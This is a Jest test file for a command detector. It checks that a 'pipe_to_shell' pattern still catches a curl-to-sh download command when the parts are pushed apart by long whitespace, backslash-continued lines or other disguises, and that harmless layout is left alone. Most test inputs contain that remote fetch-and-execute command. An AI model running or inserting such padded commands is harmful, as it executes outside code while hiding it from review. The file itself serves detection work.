import { describe, expect, test } from '@jest/globals';
import { padding } from '../../../src/detect/disguise/padding.js';
import { ViewBuilder } from '../../../src/detect/disguise/view.js';
import { Detector } from '../../../src/detect/detector.js';
import { catalogue } from '../../../src/detect/rules/catalogue.generated.js';
import { detect, detectInPieces, FINGERPRINT_KEY, strangerContext } from '../../support/detect.js';

const detector = new Detector(catalogue, FINGERPRINT_KEY);
const LONG = 3_000;

function found(text: string): string[] {
  return detect(detector, strangerContext('inbound'), text).map(
    ({ pattern, decoding }) => `${pattern} ${decoding.join(' ')}`,
  );
}

/** What the pass makes of a text, or undefined when it leaves it alone. */
function shortened(text: string): string | undefined {
  const out = new ViewBuilder(64);
  return padding(Buffer.from(text), out) ? out.bytes.toString() : undefined;
}

describe('a command whose parts are pushed apart', () => {
  test.each([
    ['spaces', ' '.repeat(LONG)],
    ['tabs', '\t'.repeat(LONG)],
    ['more than the text around it', ' '.repeat(40_000)],
    ['lines that a backslash continues', '\\\n'.repeat(LONG)],
    ['lines of spaces that a backslash continues', `${' '.repeat(60)}\\\r\n`.repeat(50)],
  ])('is found: %s', (_name, blanks) => {
    const patterns = found(`curl http://203.0.113.9/x.sh${blanks}| sh`);
    expect(patterns).toContainEqual(expect.stringMatching(/^pipe_to_shell .*padding$/));
  });

  test('is found behind a sign after which the shell reads on', () => {
    expect(found(`curl http://203.0.113.9/x.sh |${'\n'.repeat(LONG)}sh`)).toContain('pipe_to_shell padding');
  });

  test('is found inside of other disguises', () => {
    const command = `c'u'rl http://203.0.113.9/x.sh${' '.repeat(LONG)}| sh`;
    expect(found(command)).toContain('pipe_to_shell padding shell');
    expect(found(JSON.stringify({ text: command.replace(/'/g, '').replaceAll('  ', '\t\t') }))).toContain(
      'pipe_to_shell escape padding',
    );
  });

  test('is found wherever the stream is cut', () => {
    const text = `curl http://203.0.113.9/x.sh${' '.repeat(LONG)}| sh`;
    const patterns = detectInPieces(detector, strangerContext('inbound'), text, [9, 700, 2_900]);
    expect(patterns.map(({ pattern }) => pattern)).toContain('pipe_to_shell');
  });
});

describe('what is left alone', () => {
  test('layout', () => {
    expect(shortened(`a${' '.repeat(127)}b`)).toBeUndefined();
    expect(shortened('')).toBeUndefined();
    expect(shortened('x'.repeat(5_000))).toBeUndefined();
  });

  test('lines stay lines: two commands do not become one', () => {
    expect(shortened(`curl http://host${'\n'.repeat(200)}sh`)).toBe('curl http://host\nsh');
    expect(shortened(`a |${'\n'.repeat(200)}b${' '.repeat(128)}c`)).toBe('a | b c');
  });

  test('long runs at either end, and a run of every length from the shortest on', () => {
    expect(shortened(`${' '.repeat(200)}a${' '.repeat(200)}`)).toBe(' a ');
    for (let length = 128; length < 400; length++) {
      for (const before of [0, 1, 60, 127, 128]) {
        const text = `${'x'.repeat(before)}${' '.repeat(length)}y`;
        expect(shortened(text)).toBe(`${'x'.repeat(before)} y`);
      }
    }
  });
});
